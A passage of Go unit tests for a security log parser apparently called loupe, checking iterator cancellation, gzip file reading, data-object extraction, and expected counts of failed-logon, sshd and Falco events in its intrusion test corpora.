		t.Errorf("ParseLine id %q differs from Read id %q", ev.ID, a[1])
	}
}

func TestReadCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	input := strings.Repeat("{\"msg\":\"x\"}\n", 10*ctxCheckEvery)
	n := 0
	var last error
	for ev, err := range Read(ctx, strings.NewReader(input), Options{}) {
		if err != nil {
			last = err
			continue
		}
		if ev != nil {
			n++
		}
		if n == 1 {
			cancel()
		}
	}
	if !errors.Is(last, context.Canceled) {
		t.Errorf("last error %v, want context.Canceled", last)
	}
	if n > ctxCheckEvery {
		t.Errorf("read %d events after cancel, want at most %d", n, ctxCheckEvery)
	}
	// Already cancelled: nothing is read.
	n = 0
	for ev := range Read(ctx, strings.NewReader(input), Options{}) {
		if ev != nil {
			n++
		}
	}
	if n != 0 {
		t.Errorf("cancelled context still yielded %d events", n)
	}
}

func TestReadStopsWhenConsumerStops(t *testing.T) {
	n := 0
	for range Read(context.Background(), strings.NewReader("{}\n{}\n{}\n"), Options{}) {
		n++
		break
	}
	if n != 1 {
		t.Errorf("got %d, want 1", n)
	}
}

// TestCorpora reads every shared test corpus: no line may fail, ids must be
// unique per file, and a few known facts of each intrusion must be visible.
func TestCorpora(t *testing.T) {
	files, _ := filepath.Glob("../../testdata/*/*")
	var read int
	facts := map[string]int{}
	for _, f := range files {
		if strings.HasSuffix(f, ".md") || strings.HasSuffix(f, ".py") {
			continue
		}
		fh, err := os.Open(f)
		if err != nil {
			t.Fatal(err)
		}
		evs, errs := collect(t, fh, Options{Name: filepath.Base(f)})
		fh.Close()
		if len(errs) > 0 {
			t.Errorf("%s: %d bad lines, first: %v", f, len(errs), errs[0])
		}
		ids := map[string]bool{}
		for _, ev := range evs {
			if ids[ev.ID] {
				t.Errorf("%s: duplicate id %s", f, ev.ID)
			}
			ids[ev.ID] = true
			if ev.Time.IsZero() {
				t.Errorf("%s line %d: no time", f, ev.Line)
			}
			base := filepath.Base(filepath.Dir(f)) + "/" + filepath.Base(f)
			switch {
			case ev.EventID == 4625 && ev.SrcIP == "203.0.113.45" && ev.LogonType == 10 && ev.TargetUser == "administrator":
				facts[base+" 4625"]++
			case strings.HasPrefix(ev.Message, "Failed password") || strings.Contains(ev.Message, "] Failed password"):
				if ev.SrcIP == "198.51.100.23" {
					facts[base+" sshd fail"]++
				}
			case ev.Rule != "" && ev.CommandLine != "":
				facts[base+" falco"]++
			}
		}
		read += len(evs)
	}
	if read == 0 {
		t.Fatal("no corpus files found under testdata/")
	}
	for k, v := range map[string]int{
		"attack/evtx.jsonl 4625":                 12,
		"attack/timesketch-flat.jsonl 4625":      8,
		"attack/timesketch-nested.jsonl 4625":    8,
		"attack/auth.log sshd fail":              15,
		"attack/timesketch-flat.jsonl sshd fail": 15,
		"attack/falco.jsonl falco":               20,
	} {
		if facts[k] != v {
			t.Errorf("%s: %d events, want %d", k, facts[k], v)
		}
	}
}

// sharedDir locates the optional shared dataset: $LOUPE_SHARED, or
// ../shared next to the repository.
func sharedDir(t *testing.T) string {
	t.Helper()
	dir := os.Getenv("LOUPE_SHARED")
	if dir == "" {
		dir = filepath.Join("..", "..", "..", "shared")
	}
	if fi, err := os.Stat(dir); err != nil || !fi.IsDir() {
		t.Skipf("shared dataset not found (set LOUPE_SHARED or place it at %s)", dir)
	}
	return dir
}

// TestSharedDataset reads every .jsonl/.ndjson/.log file (optionally .gz) of
// the shared dataset and requires that almost every line parses.
func TestSharedDataset(t *testing.T) {
	dir := sharedDir(t)
	var files []string
	filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			name := strings.TrimSuffix(d.Name(), ".gz")
			for _, ext := range []string{".jsonl", ".ndjson", ".json", ".log"} {
				if strings.HasSuffix(name, ext) {
					files = append(files, path)
				}
			}
		}
		return nil
	})
	if len(files) == 0 {
		t.Skip("shared dataset has no log files")
	}
	const limit = 200_000 // lines per file, to keep the test fast
	for _, f := range files {
		fh, err := os.Open(f)
		if err != nil {
			t.Fatal(err)
		}
		var events, bad int
		var firstErr error
		for ev, err := range Read(context.Background(), fh, Options{Name: f}) {
			if err != nil {
				var le *LineError
				if !errors.As(err, &le) {
					t.Errorf("%s: %v", f, err)
					break
				}
				if firstErr == nil {
					firstErr = err
				}
				bad++
			} else if ev.ID == "" {
				t.Errorf("%s line %d: empty id", f, ev.Line)
			} else {
				events++
			}
			if events+bad >= limit {
				break
			}
		}
		fh.Close()
		t.Logf("%s: %d events, %d bad lines", f, events, bad)
		if bad*100 > events+bad {
			t.Errorf("%s: %d of %d lines failed (first: %v)", f, bad, events+bad, firstErr)
		}
	}
}

func TestReadFiles(t *testing.T) {
	dir := t.TempDir()
	a := filepath.Join(dir, "a.jsonl")
	b := filepath.Join(dir, "b.jsonl.gz")
	os.WriteFile(a, []byte("{\"msg\":\"x\"}\n{\"msg\":\"y\"}\n"), 0o600)
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write([]byte("{\"msg\":\"x\"}\n"))
	zw.Close()
	os.WriteFile(b, gz.Bytes(), 0o600)

	var got []string
	var ids []string
	for ev, err := range ReadFiles(context.Background(), []string{a, b}, Options{}) {
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, fmt.Sprintf("%s:%d", ev.Message, ev.Line))
		ids = append(ids, ev.ID)
	}
	if strings.Join(got, " ") != "x:1 y:2 x:1" {
		t.Errorf("got %v, want x:1 y:2 x:1", got)
	}
	if ids[0] == ids[2] {
		t.Errorf("same line in different files got the same id %s", ids[0])
	}
	var errs []error
	for _, err := range ReadFiles(context.Background(), []string{filepath.Join(dir, "missing"), a}, Options{}) {
		errs = append(errs, err)
	}
	if len(errs) != 1 || !errors.Is(errs[0], os.ErrNotExist) {
		t.Errorf("missing file: %v, want one not-exist error and no further reading", errs)
	}
}

// TestDataObject: where the parser hands out the data object's text, it is
// exactly what the DataPath names inside Raw, for every corpus record and
// every shape of Windows, Falco and winlogbeat record among the fuzz seeds.
func TestDataObject(t *testing.T) {
	var evs []*event.Event
	files, _ := filepath.Glob("../../testdata/*/*.jsonl")
	for _, f := range files {
		fh, err := os.Open(f)
		if err != nil {
			t.Fatal(err)
		}
		got, _ := collect(t, fh, Options{Name: filepath.Base(f)})
		fh.Close()
		evs = append(evs, got...)
	}
	for _, s := range fuzzSeeds {
		if ev, err := ParseLine([]byte(s), 1, Options{}); err == nil {
			evs = append(evs, ev)
		}
	}
	set := map[string]int{}
	for _, ev := range evs {
		if ev.DataPath == "" {
			if ev.DataObject != "" {
				t.Errorf("line %d: DataObject without DataPath", ev.Line)
			}
			continue
		}
		want := gjson.GetBytes(ev.Raw, ev.DataPath)
		if ev.DataObject != want.Raw {
			t.Errorf("line %d: DataObject %.60q, at %s in Raw %.60q", ev.Line, ev.DataObject, ev.DataPath, want.Raw)
		}
		set[ev.DataPath]++
	}
	for _, p := range []string{"Event.EventData", "output_fields", "loupe_event_data", "winlog.event_data", "Event.UserData.X"} {
		if set[p] == 0 {
			t.Errorf("no record with its data at %s (have %v)", p, set)
		}
	}
}
